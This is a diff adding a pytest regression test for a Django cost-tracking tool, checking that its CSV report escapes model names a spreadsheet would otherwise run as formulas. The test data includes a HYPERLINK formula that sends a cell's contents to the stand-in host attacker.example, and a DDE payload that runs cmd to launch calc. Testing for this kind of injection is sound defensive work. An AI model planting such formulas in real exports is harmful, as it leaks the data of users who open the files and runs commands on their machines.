@@ -131,3 +131,17 @@ def test_a_real_process_exits_2_on_usage_errors_and_0_when_done(transactional_db
     done = run("--log", "--agent", "qa_agent", "--operation", "manual", "--cost", "1.5")
     assert done.returncode == 0, done.stderr
     assert CostEntry.objects.get().amount_usd == Decimal("1.5")
+
+
+@pytest.mark.django_db
+def test_report_csv_keeps_a_model_name_a_spreadsheet_would_run_as_text(qa_agent):
+    # Was: the cell written as typed, so opening the report ran the formula (a click sent B2 away).
+    UserFactory(username="admin", is_superuser=True)
+    formula = '=HYPERLINK("http://attacker.example/?d="&B2,"open")'
+    for index, model in enumerate((formula, "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0", "open-mistral-7b")):
+        track_costs("--log", "--agent", "qa_agent", "--operation", "inference", "--cost", "0.01", "--model", model,
+                    "--key", f"m{index}", "--as", "admin")
+    rows = list(csv.reader(io.StringIO(track_costs("--report", "--format", "csv"))))
+    assert sorted(row[3] for row in rows[1:-1]) == sorted(
+        [f"'{formula}", "'@SUM(1+1)", "'-2+3+cmd|' /C calc'!A0", "open-mistral-7b"])
+    assert [row[6] for row in rows[1:]] == ["0.01", "0.01", "0.01", "0.01", "0.04"]  # amounts stay numbers
